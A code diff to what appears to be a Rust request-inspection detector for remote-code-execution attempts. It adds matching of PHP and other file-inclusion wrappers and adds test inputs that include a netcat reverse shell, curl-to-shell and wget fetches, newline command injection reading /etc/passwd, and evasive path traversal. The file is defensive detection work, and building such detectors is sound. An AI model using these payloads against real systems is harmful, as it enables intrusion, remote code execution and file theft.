@@ -26,7 +26,9 @@
 //! - [`RceKind::PathTraversal`]: `../` (any encoding) then a sensitive file
 //!   (`etc/passwd`, `etc/shadow`, `win.ini`, `boot.ini`, `system32`,
 //!   `proc/self`, `.ssh/`, `web-inf/`), a value that is such an absolute
-//!   path (`/etc/passwd`), a path to `system32/cmd.exe` (IIS), or two or
+//!   path (`/etc/passwd`), a path to `system32/cmd.exe` (IIS), an
+//!   inclusion wrapper (`php://filter`, `php://input`, `expect://`,
+//!   `file:///etc/`, `data://text/plain;base64`), or two or
 //!   more evasively encoded `../`
 //!   (`..%c0%af`, `..%255c`, `..%5c`);
 //! - [`RceKind::Deserialization`]: a Java serialized stream (`rO0AB`
@@ -357,6 +359,17 @@ fn traversal(raw: &[u8], s: &[u8]) -> Option<(usize, &'static str)> {
     {
         return Some((0, "absolute path of a sensitive file"));
     }
+    for w in [
+        &b"php://filter"[..],
+        b"php://input",
+        b"expect://",
+        b"file:///etc/",
+        b"data://text/plain;base64",
+    ] {
+        if let Some(at) = find_ci(&n, w, 0) {
+            return Some((at, "file-inclusion wrapper"));
+        }
+    }
     if let Some(at) = find_ci(&n, b"system32/cmd.exe", 0) {
         return Some((at, "request for the Windows command shell"));
     }
@@ -444,6 +457,16 @@ mod tests {
             ("..%c0%af..%c0%af../winnt/system32/cmd.exe", PathTraversal),
             ("/etc/passwd", PathTraversal),
             ("rO0ABXNyABFqYXZh", Deserialization),
+            (";nc -e /bin/sh 1.2.3.4 4444", Shell),
+            ("$(curl http://x|sh)", Shell),
+            ("`wget http://x`", Shell),
+            ("%0acat%20/etc/passwd", Shell),
+            ("x;sleep 5;", Shell),
+            (
+                "php://filter/convert.base64-encode/resource=index.php",
+                PathTraversal,
+            ),
+            ("....//....//....//etc/passwd", PathTraversal),
             ("() { :; }; echo vulnerable", Shellshock),
             ("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", Deserialization),
         ] {
